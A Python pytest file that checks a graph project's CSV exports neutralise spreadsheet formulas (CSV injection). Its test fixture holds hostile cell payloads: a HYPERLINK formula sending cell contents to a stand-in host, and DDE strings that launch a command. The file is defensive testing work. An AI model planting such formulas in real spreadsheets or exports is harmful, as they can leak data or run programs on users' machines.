"""CSV written by the project never carries a spreadsheet formula: a cell starting with =, +, -,
@, tab or CR gets a single quote in front (OWASP, CSV injection), in query results, chain CSV and
the csv-edges export, and through the endpoint's CSV downloads."""

from __future__ import annotations

import csv
import io

import pytest
from graph_helpers import make_store, mandate, record, ref

from graph.chain import format_chain, trace_chain
from graph.console.cells import safe_cell
from graph.export.rdf import export_graph
from graph.query.run import format_result, run_query

# (cell as written by a document, cell as the CSV must carry it)
CELLS = (
    (
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        '\'=HYPERLINK("http://x.example/?"&A1,"click")',
    ),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-5", "-5"),  # a plain number is no formula
    ("+1.5e3", "+1.5e3"),
    ("Requests the Secretary-General = to report", "Requests the Secretary-General = to report"),
    ("", ""),
)


@pytest.mark.parametrize(("written", "carried"), CELLS)
def test_safe_cell(written, carried):
    assert safe_cell(written) == carried


def _store():
    evidence = [w for w, _c in CELLS if w]
    return make_store(
        [
            record(
                f"D/{i}",
                [ref("document", "T/1", "requestedBy", evidence=text)],
                title=text,
                date="2020-01-01",
                mandates=[mandate("requestedBy", "T/1", evidence=text)],
            )
            for i, text in enumerate(evidence, 1)
        ]
    )


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_query_csv_quotes_formulas():
    store = _store()
    result = run_query(store, "SELECT ?t WHERE { ?d dct:title ?t } ORDER BY ?t")
    cells = {row[0] for row in _rows(format_result(result, "csv"))[1:]}
    assert cells == {c for w, c in CELLS if w}


def test_chain_csv_quotes_formulas():
    store = _store()
    rows = list(
        csv.DictReader(
            io.StringIO(format_chain(trace_chain(store, "T/1", down=True), "csv"), newline="")
        )
    )
    _assert_no_formula([r["evidence"] for r in rows])  # (the chain trims the text first)
    assert "'=1+1" in {r["evidence"] for r in rows}


def _assert_no_formula(cells: list[str]) -> None:
    assert cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or safe_cell(cell) == cell


def test_csv_edges_quote_formulas(tmp_path):
    store = _store()
    path = tmp_path / "edges.csv"
    export_graph(store, path, "csv-edges")
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert {r["evidence"] for r in rows} == {c for w, c in CELLS if w}
